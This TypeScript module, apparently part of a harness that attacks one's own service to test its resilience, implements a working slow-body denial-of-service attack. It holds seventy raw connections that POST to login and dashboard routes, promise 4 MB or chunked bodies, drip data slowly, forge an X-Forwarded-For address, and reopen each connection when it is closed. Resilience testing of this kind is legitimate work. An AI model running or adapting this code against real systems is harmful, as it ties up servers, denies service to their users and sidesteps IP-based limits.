// Bodies that never end: seventy connections hold as much as a public route takes, and come back when they are closed.
import { connect } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import type { Attack } from '../attack.ts'

const STRANGERS = 70
const PATHS = ['/v1/dashboard/login', '/dashboard/batches', '/dashboard/products', '/v1/biz/batches'] as const
const SAID_BYTES = 4 * 1024 * 1024
const CHUNK = 'x'.repeat(16 * 1024)
const PAUSE_MS = 20

export const HALF_BODIES: Attack = {
  name: 'half-bodies',
  title: 'Holds half-arrived bodies on seventy connections, and opens each again when it is closed.',
  prepare: ({ baseUrl }) => {
    const { hostname, port } = new URL(baseUrl)
    return Promise.resolve(async (signal) => {
      const figures = { connections: 0, bytes: 0 }
      const hold = (path: string, isChunked: boolean): Promise<void> =>
        new Promise((resolve) => {
          const socket = connect(Number(port), hostname)
          figures.connections++
          const framing = isChunked ? 'Transfer-Encoding: chunked' : `Content-Length: ${SAID_BYTES}`
          socket.write(
            `POST ${path} HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: 203.0.113.22\r\nContent-Type: application/json\r\n${framing}\r\n\r\n`,
          )
          const drip = setInterval(() => {
            figures.bytes += CHUNK.length
            socket.write(isChunked ? `${CHUNK.length.toString(16)}\r\n${CHUNK}\r\n` : CHUNK)
          }, PAUSE_MS)
          const stop = (): void => {
            socket.destroy()
          }
          signal.addEventListener('abort', stop)
          socket.on('error', stop)
          socket.on('data', () => undefined)
          socket.once('close', () => {
            clearInterval(drip)
            signal.removeEventListener('abort', stop)
            resolve()
          })
        })
      const stranger = async (index: number): Promise<void> => {
        while (!signal.aborted) {
          await hold(PATHS[index % PATHS.length] as string, index % 2 === 0)
          await delay(PAUSE_MS)
        }
      }
      await Promise.all(Array.from({ length: STRANGERS }, (_, index) => stranger(index)))
      return figures
    })
  },
}
